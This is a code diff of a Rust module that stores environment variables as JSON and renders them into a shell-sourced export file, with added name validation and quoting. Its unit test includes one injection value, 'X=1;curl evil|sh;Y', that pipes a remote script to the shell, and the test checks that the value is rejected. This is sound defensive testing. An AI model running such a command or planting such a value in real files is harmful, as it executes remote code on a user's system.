@@ -1,67 +1,300 @@
 use std::{
-    collections::HashMap,
     io::{BufRead, Write},
+    path::Path,
 };
 
-pub fn add(work_dir: &str, name: &str, value: &str) -> Result<(), std::io::Error> {
-    let mut env_file = std::fs::OpenOptions::new()
-        .append(true)
-        .open(get_env_path(work_dir))?;
-    env_file.write_all(format!("export {}='{}'\n", name, value).as_bytes())?;
-    Ok(())
+use crate::error::{Error, Result};
+use serde::{Deserialize, Serialize};
+
+const ENV_FILE: &str = "light-dragon.env";
+const STORE_FILE: &str = "light-dragon.env.json";
+
+fn default_delimiter() -> String {
+    "&".to_string()
 }
 
-pub fn list(work_dir: &str) -> Result<HashMap<String, String>, std::io::Error> {
-    let env_file = std::fs::File::open(get_env_path(work_dir))?;
-    let reader = std::io::BufReader::new(env_file);
+fn default_enabled() -> bool {
+    true
+}
 
-    let mut map = HashMap::new();
-    for line in reader.lines() {
-        let line = line?;
-        let line = &line["export ".len()..];
-        map.insert(
-            line.split('=').nth(0).unwrap().to_string(),
-            line[line.find('=').unwrap() + 1..]
-                .replace("'", "")
-                .to_string(),
-        );
+#[derive(Debug, Deserialize, Serialize, Clone)]
+pub struct Entry {
+    pub value: String,
+
+    #[serde(default = "default_enabled")]
+    pub enabled: bool,
+
+    #[serde(default)]
+    pub remark: String,
+}
+
+#[derive(Debug, Deserialize, Serialize, Clone)]
+pub struct Var {
+    pub name: String,
+
+    /// joins the enabled entries when rendering the env file, e.g. `&` or `\n`
+    #[serde(default = "default_delimiter")]
+    pub delimiter: String,
+
+    pub entries: Vec<Entry>,
+}
+
+impl Var {
+    pub fn value(&self) -> String {
+        self.entries
+            .iter()
+            .filter(|e| e.enabled)
+            .map(|e| e.value.as_str())
+            .collect::<Vec<_>>()
+            .join(&self.delimiter)
     }
-    Ok(map)
 }
 
-pub fn rm(work_dir: &str, name: &str) -> Result<(), std::io::Error> {
-    let begin = format!("export {}=", name);
-    let env_file = std::fs::File::open(get_env_path(work_dir))?;
-    let reader = std::io::BufReader::new(env_file);
-    let mut lines: Vec<String> = Vec::new();
+fn not_found(name: &str) -> Error {
+    Error::NotFound(format!("env {}", name))
+}
+
+// names end up in `export NAME=...` lines sourced by the shell
+fn is_valid_name(name: &str) -> bool {
+    let mut chars = name.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+// undoes `quote`, values written without quotes are taken as is
+fn unquote(value: &str) -> String {
+    match value.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')) {
+        Some(inner) => inner.replace(r"'\''", "'"),
+        None => value.to_string(),
+    }
+}
+
+// parse the plain `export NAME='value'` file written by older versions
+fn load_legacy(work_dir: &str) -> Result<Vec<Var>> {
+    let file_path = format!("{}/{}", work_dir, ENV_FILE);
+    if !Path::new(&file_path).exists() {
+        return Ok(Vec::new());
+    }
+
+    let reader = std::io::BufReader::new(std::fs::File::open(file_path)?);
+    let mut vars = Vec::new();
     for line in reader.lines() {
         let line = line?;
-        if !line.starts_with(&begin) {
-            lines.push(line);
-        }
+        let line = match line.strip_prefix("export ") {
+            Some(line) => line,
+            None => continue,
+        };
+        let (name, value) = match line.split_once('=') {
+            Some(kv) if is_valid_name(kv.0) => kv,
+            _ => continue,
+        };
+        vars.push(Var {
+            name: name.to_string(),
+            delimiter: default_delimiter(),
+            entries: vec![Entry {
+                value: unquote(value),
+                enabled: true,
+                remark: String::new(),
+            }],
+        });
+    }
+    Ok(vars)
+}
+
+fn load(work_dir: &str) -> Result<Vec<Var>> {
+    let store_path = format!("{}/{}", work_dir, STORE_FILE);
+    if !Path::new(&store_path).exists() {
+        return load_legacy(work_dir);
     }
 
+    let content = std::fs::read_to_string(store_path)?;
+    Ok(serde_json::from_str(&content)?)
+}
+
+fn quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+fn render(vars: &[Var]) -> String {
+    let mut buf = String::new();
+    // never let a name from a hand-edited store reach the shell
+    for var in vars.iter().filter(|v| is_valid_name(&v.name)) {
+        buf += &format!("export {}={}\n", var.name, quote(&var.value()));
+    }
+    buf
+}
+
+fn save(work_dir: &str, vars: &[Var]) -> Result<()> {
+    std::fs::write(
+        format!("{}/{}", work_dir, STORE_FILE),
+        serde_json::to_string_pretty(vars)?,
+    )?;
+
     let mut env_file = std::fs::OpenOptions::new()
+        .create(true)
         .write(true)
         .truncate(true)
-        .open(get_env_path(work_dir))?;
-    for line in lines {
-        env_file.write_all(format!("{}\n", line).as_bytes())?;
-    }
+        .open(format!("{}/{}", work_dir, ENV_FILE))?;
+    env_file.write_all(render(vars).as_bytes())?;
     Ok(())
 }
 
-pub fn get_env_path(work_dir: &str) -> String {
-    // crate file if not exists
-    let file_path = &format!("{}/{}", work_dir, "light-dragon.env");
+fn update<F>(work_dir: &str, f: F) -> Result<()>
+where
+    F: FnOnce(&mut Vec<Var>) -> Result<()>,
+{
+    let mut vars = load(work_dir)?;
+    f(&mut vars)?;
+    save(work_dir, &vars)
+}
 
-    if !std::path::Path::new(file_path).exists() {
-        std::fs::File::create(file_path).unwrap();
+/// appends an entry to `name`, creating the variable if needed
+pub fn add(work_dir: &str, name: &str, value: &str, remark: &str) -> Result<()> {
+    if !is_valid_name(name) {
+        return Err(Error::BadRequest(format!("invalid env name {}", name)));
     }
+    update(work_dir, |vars| {
+        let entry = Entry {
+            value: value.to_string(),
+            enabled: true,
+            remark: remark.to_string(),
+        };
+        match vars.iter_mut().find(|v| v.name == name) {
+            Some(var) => var.entries.push(entry),
+            None => vars.push(Var {
+                name: name.to_string(),
+                delimiter: default_delimiter(),
+                entries: vec![entry],
+            }),
+        }
+        Ok(())
+    })
+}
+
+pub fn list(work_dir: &str) -> Result<Vec<Var>> {
+    load(work_dir)
+}
+
+/// names of the variables with a non-empty value
+pub fn defined(work_dir: &str) -> Result<Vec<String>> {
+    Ok(load(work_dir)?
+        .into_iter()
+        .filter(|v| !v.value().is_empty())
+        .map(|v| v.name)
+        .collect())
+}
+
+pub fn rm(work_dir: &str, name: &str) -> Result<()> {
+    update(work_dir, |vars| {
+        vars.retain(|v| v.name != name);
+        Ok(())
+    })
+}
+
+pub fn rm_entry(work_dir: &str, name: &str, index: usize) -> Result<()> {
+    update(work_dir, |vars| {
+        let var = vars
+            .iter_mut()
+            .find(|v| v.name == name)
+            .ok_or_else(|| not_found(name))?;
+        if index >= var.entries.len() {
+            return Err(Error::NotFound(format!("entry {} of {}", index, name)));
+        }
+        var.entries.remove(index);
+        Ok(())
+    })
+}
+
+pub fn update_entry(
+    work_dir: &str,
+    name: &str,
+    index: usize,
+    value: Option<&str>,
+    enabled: Option<bool>,
+    remark: Option<&str>,
+) -> Result<()> {
+    update(work_dir, |vars| {
+        let entry = vars
+            .iter_mut()
+            .find(|v| v.name == name)
+            .ok_or_else(|| not_found(name))?
+            .entries
+            .get_mut(index)
+            .ok_or_else(|| Error::NotFound(format!("entry {} of {}", index, name)))?;
+        if let Some(value) = value {
+            entry.value = value.to_string();
+        }
+        if let Some(enabled) = enabled {
+            entry.enabled = enabled;
+        }
+        if let Some(remark) = remark {
+            entry.remark = remark.to_string();
+        }
+        Ok(())
+    })
+}
+
+pub fn set_delimiter(work_dir: &str, name: &str, delimiter: &str) -> Result<()> {
+    update(work_dir, |vars| {
+        let var = vars
+            .iter_mut()
+            .find(|v| v.name == name)
+            .ok_or_else(|| not_found(name))?;
+        var.delimiter = delimiter.to_string();
+        Ok(())
+    })
+}
 
-    std::fs::canonicalize(file_path)
-        .unwrap()
-        .to_str()
-        .unwrap()
-        .to_string()
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn stores_and_renders_vars() {
+        let tmp = tempfile::tempdir().unwrap();
+        let work_dir = tmp.path().to_str().unwrap();
+
+        // older versions only wrote the plain env file
+        std::fs::write(
+            format!("{}/{}", work_dir, ENV_FILE),
+            "export A='it'\\''s'\nexport B=plain\nexport 1X='bad'\n# comment\n",
+        )
+        .unwrap();
+        let vars = list(work_dir).unwrap();
+        assert_eq!(
+            vars.iter()
+                .map(|v| (v.name.as_str(), v.value()))
+                .collect::<Vec<_>>(),
+            [("A", "it's".to_string()), ("B", "plain".to_string())]
+        );
+
+        add(work_dir, "COOKIE", "a", "").unwrap();
+        add(work_dir, "COOKIE", "b", "").unwrap();
+        add(work_dir, "COOKIE", "c", "").unwrap();
+        update_entry(work_dir, "COOKIE", 1, None, Some(false), None).unwrap();
+        assert_eq!(defined(work_dir).unwrap(), ["A", "B", "COOKIE"]);
+        let cookie = || {
+            list(work_dir)
+                .unwrap()
+                .into_iter()
+                .find(|v| v.name == "COOKIE")
+                .unwrap()
+        };
+        assert_eq!(cookie().value(), "a&c");
+        set_delimiter(work_dir, "COOKIE", "\n").unwrap();
+        assert_eq!(cookie().value(), "a\nc");
+
+        let rendered = std::fs::read_to_string(format!("{}/{}", work_dir, ENV_FILE)).unwrap();
+        assert!(rendered.contains("export A='it'\\''s'\n"));
+        assert!(rendered.contains("export COOKIE='a\nc'\n"));
+
+        for name in ["X=1;curl evil|sh;Y", "", "1A", "A B"] {
+            assert!(matches!(
+                add(work_dir, name, "v", ""),
+                Err(Error::BadRequest(_))
+            ));
+        }
+    }
 }